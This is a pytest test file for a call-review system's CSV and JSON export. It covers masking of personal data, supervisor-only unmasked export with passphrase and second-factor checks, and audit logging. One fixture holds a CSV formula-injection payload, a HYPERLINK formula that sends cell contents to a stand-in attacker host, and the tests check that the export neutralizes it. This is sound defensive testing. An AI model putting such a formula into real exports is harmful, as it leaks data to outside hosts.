"""Export: CSV and JSON round-trip the filtered rows, masked unless a supervisor asks."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import Engine, select
from sqlalchemy.exc import DatabaseError
from sqlalchemy.orm import Session, sessionmaker

from db import review
from db.audit.chain import head, verify_chain
from db.engine import make_engine, make_sessionmaker, unit_of_work
from db.export import FIELDS, export_rows, write_export
from db.models import AccountUser, Agent, AuditEvent, Call, Tenant
from db.staff.agents import add_agent, get_agent
from db.types import utcnow
from tests.helpers.review_data import PASSPHRASE, Made, many_calls
from tests.helpers.totp import TOTP_SECRET, next_code
from tui.cli import main
from verification.hashing import hash_secret
from verification.kinds import CallState, Outcome, Role

NOW = datetime(2026, 11, 26, 14, 0, tzinfo=UTC)
RECENT = review.RequestFilter(started_from=NOW - timedelta(days=15), outcome=Outcome.CANCELED)


def _expected_ids(made: list[Made], filters: review.RequestFilter) -> list[int]:
    assert filters.started_from is not None
    chosen = [
        c for c in made if c.started_at >= filters.started_from and c.outcome is filters.outcome
    ]
    chosen.sort(key=lambda c: (c.started_at, c.call_id), reverse=True)
    return [c.call_id for c in chosen]


def _tenant_phones(tenants: dict[int, tuple[str, str, set[str], set[str]]]) -> set[str]:
    return {phone for _, phone, _, _ in tenants.values()}


def _supervisor(factory: sessionmaker[Session]) -> int:
    with factory() as session:
        return session.scalars(select(Agent.id).where(Agent.username == "sue")).one()


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_round_trips_the_filtered_rows_masked(
    any_factory: sessionmaker[Session], fmt: str
) -> None:
    supervisor, made, tenants = many_calls(any_factory, 120, NOW)
    out = io.StringIO()

    report = write_export(any_factory, out, fmt, RECENT, actor="sue", now=NOW)  # type: ignore[arg-type]

    text = out.getvalue()
    records = list(csv.DictReader(io.StringIO(text))) if fmt == "csv" else json.loads(text)
    assert [int(r["call_id"]) for r in records] == _expected_ids(made, RECENT)
    assert report.rows == len(records) > 0
    assert all(tuple(r) == FIELDS for r in records)
    listed = review.list_requests(any_factory, supervisor, RECENT, limit=1000).rows
    assert [(r["agent"], r["organization"]) for r in records] == [
        (row.agent, row.organization) for row in listed
    ]
    assert all(r["outcome"] == "canceled" for r in records)
    assert report.masked
    for phone in _tenant_phones(tenants):
        assert phone not in text
    assert "Park" not in text
    with_tenant = [r for r in records if r["tenant_ref"]]
    assert with_tenant and all(r["phone"].startswith("•••") for r in with_tenant)
    assert all(r["contact"] == "J. P." for r in with_tenant)


def test_an_empty_json_export_is_an_empty_array(factory: sessionmaker[Session]) -> None:
    out = io.StringIO()
    report = write_export(factory, out, "json", review.RequestFilter(), actor="op", now=NOW)
    assert json.loads(out.getvalue()) == []
    assert report.rows == 0


def test_unmasked_needs_a_supervisor(factory: sessionmaker[Session]) -> None:
    supervisor, _, tenants = many_calls(factory, 60, NOW)
    with factory() as session:
        agent = session.scalars(select(Agent.id).where(Agent.username == "ana")).one()
    with pytest.raises(review.NotSupervisor):
        write_export(
            factory, io.StringIO(), "csv", RECENT, actor="ana", now=NOW, unmasked_for=agent
        )

    out = io.StringIO()
    report = write_export(
        factory, out, "csv", RECENT, actor="sue", now=NOW, unmasked_for=supervisor
    )

    assert not report.masked
    records = list(csv.DictReader(io.StringIO(out.getvalue())))
    with_tenant = [r for r in records if r["tenant_ref"]]
    assert with_tenant
    # E.164 starts with "+", a formula character: the CSV cell carries a leading quote.
    assert {r["phone"] for r in with_tenant} <= {f"'{p}" for p in _tenant_phones(tenants)}
    assert all(r["contact"] == "Jo Park" for r in with_tenant)


def test_every_export_is_an_audit_event_and_returns_the_head(
    factory: sessionmaker[Session],
) -> None:
    many_calls(factory, 30, NOW)
    report = write_export(factory, io.StringIO(), "json", RECENT, actor="sue", now=NOW)
    with factory() as session:
        event = session.scalars(select(AuditEvent).where(AuditEvent.type == "export")).one()
        assert (report.head_seq, report.head_hash) == head(session) == (event.seq, event.hash)
    payload = json.loads(event.payload)
    assert payload["rows"] == report.rows
    assert payload["masked"] is True
    assert payload["filters"]["outcome"] == "canceled"
    assert payload["filters"]["organization_search"] is False
    assert verify_chain(factory()).ok


def test_rows_are_streamed(factory: sessionmaker[Session]) -> None:
    many_calls(factory, 30, NOW)
    rows = export_rows(factory, review.RequestFilter(), masked=True)
    first = next(rows)
    assert set(first) == set(FIELDS)
    assert len(list(rows)) == 29


# --- the command line --------------------------------------------------------------


def test_cli_exports_a_period_to_a_file_and_prints_the_head(
    db_url: str, factory: sessionmaker[Session], tmp_path: Path, capsys
) -> None:
    _, made, _ = many_calls(factory, 80, NOW)
    since = (NOW - timedelta(days=10)).astimezone().date()
    until = (NOW - timedelta(days=2)).astimezone().date()
    target = tmp_path / "calls.json"

    period = ["--since", since.isoformat(), "--until", until.isoformat()]
    code = main(["--db", db_url, "export", *period, "--format", "json", "--output", str(target)])

    assert code == 0
    records = json.loads(target.read_text(encoding="utf-8"))
    expected = sorted(
        (c for c in made if since <= c.started_at.astimezone().date() <= until),
        key=lambda c: (c.started_at, c.call_id),
        reverse=True,
    )
    assert [int(r["call_id"]) for r in records] == [c.call_id for c in expected]
    out = capsys.readouterr().out
    with factory() as session:
        seq, digest = head(session)
    assert f"audit chain head: event {seq} {digest}" in out
    assert f"exported {len(records)} calls" in out


def test_cli_to_stdout_prints_the_head_on_stderr(
    db_url: str, factory: sessionmaker[Session], capsys, monkeypatch
) -> None:
    monkeypatch.setattr("tui.commands.progress.INTERVAL_SECONDS", 0)  # a line per report
    many_calls(factory, 20, NOW)
    assert main(["--db", db_url, "export", "--format", "csv"]) == 0
    captured = capsys.readouterr()
    assert list(csv.DictReader(io.StringIO(captured.out)))
    assert "audit chain head" not in captured.out
    assert "audit chain head: event" in captured.err
    assert "export: 20 of 20 calls (100%)" in captured.err


def test_cli_unmasked_checks_the_supervisor_passphrase(
    db_url: str, factory: sessionmaker[Session], tmp_path: Path, capsys, monkeypatch
) -> None:
    many_calls(factory, 20, NOW)
    add_agent(factory, "dana", "Dana", Role.SUPERVISOR, PASSPHRASE, totp_secret=TOTP_SECRET)
    add_agent(factory, "al", "Al", Role.AGENT, PASSPHRASE)
    target = tmp_path / "calls.csv"
    argv = ["--db", db_url, "export", "--output", str(target), "--unmasked", "--passphrase-stdin"]

    monkeypatch.setattr("sys.stdin", io.StringIO("wrong passphrase\n"))
    assert main([*argv, "--as", "dana"]) == 1
    assert "Wrong username or passphrase" in capsys.readouterr().err

    monkeypatch.setattr("sys.stdin", io.StringIO(PASSPHRASE + "\n"))
    assert main([*argv, "--as", "al"]) == 1
    assert "not a supervisor" in capsys.readouterr().err
    assert not target.exists()

    # The supervisor's second factor: a wrong code is refused like a wrong passphrase.
    monkeypatch.setattr("sys.stdin", io.StringIO(PASSPHRASE + "\n"))
    assert main([*argv, "--as", "dana", "--code", "000000"]) == 1
    assert "Wrong username or passphrase" in capsys.readouterr().err
    assert get_agent(factory, "dana").failed_signins == 2
    assert not target.exists()

    code = next_code(factory, "dana", utcnow())  # asked after the passphrase, from stdin
    monkeypatch.setattr("sys.stdin", io.StringIO(f"{PASSPHRASE}\n{code}\n"))
    assert main([*argv, "--as", "dana"]) == 0
    assert "(UNMASKED)" in capsys.readouterr().out
    assert "Jo Park" in target.read_text(encoding="utf-8")
    assert main(["--db", db_url, "export", "--unmasked"]) == 2


# --- hostile values in CSV (issue 11, item 12) -------------------------------------

FORMULA_ORG = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def _hostile_call(factory: sessionmaker[Session]) -> int:
    """A closed call whose record starts cells with every formula trigger; the supervisor's id."""
    hashed = hash_secret(PASSPHRASE)
    with unit_of_work(factory) as session:
        sue = Agent(
            username="sue", display_name="Sue", role=Role.SUPERVISOR, passphrase_hash=hashed
        )
        agent = Agent(username="-ana", display_name="A", role=Role.AGENT, passphrase_hash=hashed)
        tenant = Tenant(
            ref="\tref",
            organization=FORMULA_ORG,
            contact_first_name="@SUM(A1)",
            contact_last_name="\rPark",
            phone_e164="+14255550100",
            address_line1="1 Main St",
            city="Springfield",
            country="US",
        )
        session.add_all([sue, agent, tenant])
        session.flush()
        user = AccountUser(
            user_id="+1-cmd@evil.example", display_name="x", tenant_id=tenant.id, is_admin=True
        )
        session.add(user)
        session.flush()
        session.add(
            Call(
                agent_id=agent.id,
                started_at=NOW - timedelta(hours=1),
                ended_at=NOW,
                tenant_id=tenant.id,
                caller_user_id=user.id,
                state=CallState.CLOSED,
                outcome=Outcome.CANCELED,
            )
        )
        return sue.id


@pytest.mark.parametrize("masked", [True, False])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized(
    factory: sessionmaker[Session], masked: bool
) -> None:
    supervisor = _hostile_call(factory)
    out = io.StringIO()
    unmasked_for = None if masked else supervisor

    write_export(
        factory, out, "csv", review.RequestFilter(), actor="sue", now=NOW, unmasked_for=unmasked_for
    )

    [record] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert record["organization"] == "'" + FORMULA_ORG
    assert record["agent"] == "'-ana"
    assert record["tenant_ref"] == "'\tref"
    assert record["caller_user_id"].startswith("'+")
    assert record["contact"].startswith("'@")
    assert record["phone"].startswith("'+") if not masked else record["phone"].startswith("•")
    for value in record.values():
        assert not value or value[0] not in "=+-@\t\r", record


def test_json_export_keeps_values_as_they_are(factory: sessionmaker[Session]) -> None:
    _hostile_call(factory)
    out = io.StringIO()
    write_export(factory, out, "json", review.RequestFilter(), actor="sue", now=NOW)
    [record] = json.loads(out.getvalue())
    assert record["organization"] == FORMULA_ORG


# --- the export is recorded before anything is written (issue 11, item 13) ---------


def _read_only(engine: Engine) -> sessionmaker[Session]:
    """Sessions on the same SQLite file opened read-only, as a mounted backup would be."""
    path = engine.url.database
    engine.dispose()
    return make_sessionmaker(make_engine(f"sqlite:///file:{path}?mode=ro&uri=true"))


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_an_export_that_cannot_be_recorded_writes_nothing(
    engine: Engine, factory: sessionmaker[Session], fmt: str
) -> None:
    many_calls(factory, 30, NOW)
    read_only = _read_only(engine)
    assert list(export_rows(read_only, review.RequestFilter(), masked=True))  # reads work
    out = io.StringIO()

    with pytest.raises(DatabaseError, match="readonly"):
        write_export(read_only, out, fmt, RECENT, actor="sue", now=NOW)  # type: ignore[arg-type]

    assert out.getvalue() == ""


def test_export_rows_unmasked_checks_the_supervisor_itself(factory: sessionmaker[Session]) -> None:
    supervisor, _, tenants = many_calls(factory, 30, NOW)
    with factory() as session:
        agent = session.scalars(select(Agent.id).where(Agent.username == "ana")).one()

    with pytest.raises(review.NotSupervisor):
        export_rows(factory, RECENT, masked=False)
    with pytest.raises(review.NotSupervisor):
        export_rows(factory, RECENT, masked=False, requested_by=agent)

    rows = list(export_rows(factory, RECENT, masked=False, requested_by=supervisor))
    assert {r["phone"] for r in rows if r["tenant_ref"]} <= _tenant_phones(tenants)


def test_cli_export_on_a_read_only_database_leaves_no_file(
    engine: Engine, factory: sessionmaker[Session], tmp_path: Path, capsys
) -> None:
    many_calls(factory, 10, NOW)
    path = engine.url.database
    engine.dispose()
    target = tmp_path / "calls.csv"
    read_only = f"sqlite:///file:{path}?mode=ro&uri=true"

    assert main(["--db", read_only, "export", "--output", str(target)]) == 1

    assert "readonly" in capsys.readouterr().err
    assert not target.exists()
